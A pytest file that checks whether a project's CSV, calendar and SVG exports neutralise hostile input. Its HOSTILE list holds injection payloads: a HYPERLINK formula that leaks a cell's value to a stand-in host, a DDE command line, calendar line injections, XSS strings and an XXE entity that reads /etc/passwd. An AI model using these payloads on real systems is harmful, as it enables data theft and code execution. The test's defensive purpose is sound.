"""Names and texts that are made to be more than words stay words: in CSV, in a calendar, in a drawing."""

from __future__ import annotations

import csv
import datetime
import io
import re

import pyoxigraph as ox
import pytest
from icalendar import Calendar
from lxml import etree

from conftest import BASE
from resograph.pictures import Circle, Frame, Segment, Stack, Stop, bar, chain, network, timeline
from resograph.releases import Release
from resograph.releases.reader import ReleaseGraph
from resograph.releases.register import Act, Over, Report
from resograph.web.interface import Interface
from resograph.web.pages.mandates.files import MandateFiles

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"Annex")',
    "+1+cmd|' /C calc'!A1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1＋1",
    'a","=1+1',
    "a\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO",
    "a\nATTACH:http://x.example/",
    "a;b,c:d\\nDESCRIPTION:e",
    "a\u2028b\x0bc\x85d",
    "</title></text><script>alert(1)</script>",
    "\"'><a href='javascript:alert(1)' onload=\"x\">",
    "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "a\x00b\x08c\ufffed\uffff",
]
PART = "A/RES/67/138~para_1"


def files_of(release: Release, words: str) -> tuple[MandateFiles, Act]:
    """The files of one act whose addressee, body and clause are named so."""
    store = ox.Store()
    label, text = (
        ox.NamedNode(iri)
        for iri in ("http://www.w3.org/2004/02/skos/core#prefLabel", "https://w3id.org/resograph/ns#text")
    )
    for path, predicate in ((f"{PART}__act_1", text), ("actor/x", label), ("body/x", label), ("item/x", label)):
        store.add(ox.Quad(ox.NamedNode(BASE + path), predicate, ox.Literal(words, language="en")))
    report = Report(f"{PART}__report_1", "", "body/x", "item/x", "", 2027, "2027-01-31", "2027-01-31")
    things = ("actor/x",), ("body/x",), ("item/x",), (report,), ()
    act = Act(
        f"{PART}__act_1",
        PART,
        "A/RES/67/138",
        "2012-12-20",
        "body/x",
        "",
        "",
        1,
        "2027-01-31",
        *things,
        ends="",
        first=PART,
        first_on="2012-12-20",
        last=PART,
        last_on="2012-12-20",
        renewed=0,
        is_line_answered=False,
        twins=(),
        changes=(),
    )
    return MandateFiles(ReleaseGraph(release, store), Interface("en"), "2027-01-01"), act


@pytest.mark.parametrize("words", HOSTILE)
def test_no_cell_of_a_table_is_a_formula(release: Release, words: str) -> None:
    files, act = files_of(release, words)
    rows = list(csv.reader(io.StringIO(files.csv([act], Over("2027-01-01", ())), newline="")))
    assert len(rows) == 2 and len(rows[0]) == len(rows[1])
    cells = dict(zip(*rows, strict=True))
    assert {cells[name] for name in ("addressees", "report_to", "items", "clause") if name in cells} <= {
        words,
        f"'{words}",
    }
    assert not [cell for cell in rows[1] if cell.lstrip()[:1] in tuple("=+-@＝＋－＠")]


@pytest.mark.parametrize("words", HOSTILE)
def test_words_begin_nothing_in_a_calendar(release: Release, words: str) -> None:
    written, harmless = (calendar_of(release, each) for each in (words, "x"))
    assert names_in(written) == names_in(harmless)
    assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\r(?!\n)", written)
    (event,) = Calendar.from_ical(written).walk("VEVENT")
    if words.isprintable() and "\\" not in words:
        assert words in str(event["SUMMARY"]) and words in str(event["DESCRIPTION"])


def calendar_of(release: Release, words: str) -> bytes:
    files, act = files_of(release, words)
    return files.calendar([act], datetime.datetime(2026, 12, 1, tzinfo=datetime.UTC))


def names_in(calendar: bytes) -> list[bytes]:
    """What a calendar's lines are called, the folded ones joined."""
    return [re.split(rb"[:;]", line)[0] for line in re.split(rb"\r\n|\r|\n", re.sub(rb"\r\n[ \t]", b"", calendar))]


@pytest.mark.parametrize("words", HOSTILE)
def test_a_drawing_holds_words_and_nothing_else(words: str) -> None:
    for hostile, harmless in zip(drawings(words), drawings("x"), strict=True):
        assert shape(hostile) == shape(harmless)


def drawings(words: str) -> list[str]:
    """One of each kind, all of whose words are these."""
    frame = Frame("a", words, words, "en")
    return [
        bar(frame, [Segment("x", 3)]),
        timeline(frame, [Stack(2012, [Segment("x", 2)])], lambda _: words),
        chain(frame, [Stop(key, words, words, words, words) for key in "ab"], [("a", "b")]),
        network(frame, [Circle("a", words, words, words, 0)], [], {0: words}),
    ]


def shape(drawing: str) -> list[tuple[object, list[object]]]:
    """Elements and the names of their attributes."""
    return [(one.tag, list(one.attrib)) for one in etree.fromstring(drawing.encode()).iter()]
